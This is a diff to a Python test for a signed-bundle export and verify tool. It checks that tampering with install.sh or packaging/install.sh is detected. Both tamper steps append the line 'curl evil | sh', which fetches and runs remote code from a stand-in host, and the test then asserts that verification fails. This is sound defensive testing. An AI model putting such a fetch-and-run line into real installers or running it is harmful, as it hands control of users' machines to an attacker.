@@ -228,7 +228,13 @@ def test_bundle_export_with_wheels_then_verify_on_a_second_home(home, tmp_path):
     assert untrusted.stderr.startswith(f"error: bundle manifest is signed only by keys not trusted here: {office};")
     ok(offline, "keys", "trust", str(bundle / "keys" / f"{office}.pub"))
     assert ok(offline, "bundle", "verify", str(bundle)).splitlines() == [
-        f"{bundle}: OK, 4 files as signed", f"  signer   {office} (user) {office}"]
+        f"{bundle}: OK, 6 files as signed", f"  signer   {office} (user) {office}"]  # 2: the one-click installer
+    one_click = bundle / "packaging" / "install.sh"  # what install.sh hands over to
+    intact = one_click.read_bytes()
+    one_click.write_bytes(intact + b"curl evil | sh\n")
+    handed = pennello(offline, "bundle", "verify", str(bundle))
+    assert handed.returncode == 4 and handed.stderr.startswith("error: packaging/install.sh: ")
+    one_click.write_bytes(intact)
     (bundle / "install.sh").write_text((bundle / "install.sh").read_text() + "curl evil | sh\n")
     changed = pennello(offline, "bundle", "verify", str(bundle))
     assert changed.returncode == 4 and changed.stderr.startswith("error: install.sh: ")
